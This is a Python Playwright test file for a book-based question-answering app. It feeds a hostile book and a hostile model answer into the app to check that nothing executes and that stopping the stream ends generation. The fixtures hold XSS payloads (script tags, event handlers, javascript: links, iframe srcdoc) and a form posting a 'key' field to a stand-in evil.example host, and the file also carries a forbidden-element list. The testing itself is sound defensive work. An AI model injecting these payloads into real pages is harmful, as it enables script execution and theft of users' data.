"""With a language model: it is stopped when the reader stops, and neither it nor a hostile book can do harm."""

import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from asking import MARKS, ask
from playwright.sync_api import Browser, Page, expect
from serving import Product

from askbook.config import load_settings
from openai_chat_server import ChatServer, Say

pytestmark = MARKS

PAYLOADS = (
    '<img src=x onerror="window.owned=1"> <script>window.owned=1</script> '
    "[click](javascript:window.owned=1) [data](data:text/html,<script>window.owned=1</script>) "
    '<a href="javascript:window.owned=1">raw</a> <svg onload="window.owned=1"></svg> '
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe> <b onclick="window.owned=1">bold</b>'
)
GIANT = "Donaudampf" * 100
TURNED = "\u202eesrever\u202d \u2067mirror"
LESSON = f"""---
title: '<img src=x onerror="window.owned=1">'
---

# <script>window.owned=1</script> Gearbox

The gearbox ratio of the rover is twelve to one. {PAYLOADS}

The gearbox casing is called {GIANT} by its makers. {TURNED}

<div style="position:fixed;inset:0;z-index:9999">The gearbox cover lies over everything.</div>

| Part | Note |
|---|---|
| gearbox <script>window.owned=1</script> | {GIANT} |

Readers of the gearbox page type `<script>window.owned=1</script>` or \\<img src=x onerror="window.owned=1"\\> there:

```html
<img src=x onerror="window.owned=1"><script>window.owned=1</script>
```
"""
ANSWER = (
    f"The gearbox ratio of the rover is twelve to one. [1] {PAYLOADS} [1]\n\n"
    f"The gearbox casing is called {GIANT} by its makers. {TURNED} [1]\n\n"
    "Readers of the gearbox page type `<script>window.owned=1</script>` or "
    '<img src=x onerror="window.owned=1"> there: [1]\n\n'
    "[1]: https://evil.example/\n\n<form action='https://evil.example'><input name=key></form> [1]"
)


@pytest.fixture(scope="module")
def modelled(
    tmp_path_factory: pytest.TempPathFactory, browser: Browser
) -> Iterator[tuple[str, ChatServer]]:
    """A server with a hostile book, and the model that it answers with."""
    folder = tmp_path_factory.mktemp("hostile")
    book = folder / "book"
    book.mkdir()
    (book / "gearbox.md").write_text(LESSON, encoding="utf-8")
    with ChatServer() as model:
        settings = load_settings(
            data_dir=folder / "data", openai_base_url=model.url, openai_model="local"
        )
        _apart(lambda: _ingest(book, settings))
        with Product(settings) as product:
            yield product.url, model


def _ingest(book: Path, settings: Any) -> None:
    import asyncio

    from askbook.bootstrap import Askbook

    async def run() -> None:
        async with Askbook(settings) as askbook:
            async for _ in askbook.ingest(book):
                pass

    asyncio.run(run())


def _apart(work: Callable[[], None]) -> None:
    """In a thread of its own: Playwright's loop runs in this one."""
    thread = threading.Thread(target=work)
    thread.start()
    thread.join()


def test_nothing_hostile_runs_or_breaks_the_page(
    watched: Callable[[str], Page], modelled: tuple[str, ChatServer]
) -> None:
    server, model = modelled
    model.respond = lambda _request: Say(ANSWER)
    page = watched(f"{server}/")
    page.set_viewport_size({"width": 390, "height": 800})
    ask(page, "What is the gearbox ratio of the rover?")
    expect(page.locator(".prose")).to_contain_text("twelve to one")
    expect(page.locator(".prose .chip").first).to_be_visible()
    page.locator(".chip").first.click()
    expect(page.locator("#source-text mark").first).to_be_in_viewport()
    check_harmless(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390

    page.goto(f"{server}/read/book/gearbox.md")
    expect(page.locator("main")).to_contain_text("twelve to one")
    check_harmless(page)


def check_harmless(page: Page) -> None:
    """No script ran, and no element that could run one, or cover the page, came from what was said."""
    assert page.evaluate("window.owned") is None
    said = ":is(.log, .source, main article)"
    for forbidden in (
        "script",
        "iframe",
        "form:not(.why)",
        "img",
        "style",
        "object",
        "[style]:not(li)",
    ):
        expect(page.locator(f"{said} {forbidden}")).to_have_count(0)
    addresses = page.locator(f"{said} a[href]").evaluate_all("(links) => links.map((a) => a.href)")
    assert all(address.startswith(("http://127.0.0.1", "blob:")) for address in addresses), (
        addresses
    )
    handlers = page.locator(f"{said} *").evaluate_all(
        "(all) => all.flatMap((e) => [...e.attributes]).filter((a) => a.name.startsWith('on')).length"
    )
    assert handlers == 0


def test_stopping_ends_the_models_work(
    watched: Callable[[str], Page], modelled: tuple[str, ChatServer]
) -> None:
    server, model = modelled
    said = "The gearbox ratio of the rover is twelve to one. [1]\n\n"
    model.respond = lambda _request: Say(said + "The gearbox " * 500, pace=0.1)
    page = watched(f"{server}/")
    page.get_by_label("Your question").fill("What is the gearbox ratio of the rover?")
    page.keyboard.press("Enter")
    expect(page.locator(".prose")).to_contain_text("twelve to one")
    expect(page.locator(".progress")).to_be_visible()
    left = model.left
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".stopped")).to_be_visible()
    expect(page.locator(".prose")).to_contain_text("twelve to one")
    deadline = time.monotonic() + 20
    while model.left == left and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert model.left == left + 1
    page.reload()
    expect(page.locator(".example, #welcome-title").first).to_be_visible()
    expect(page.locator(".turn")).to_have_count(0)
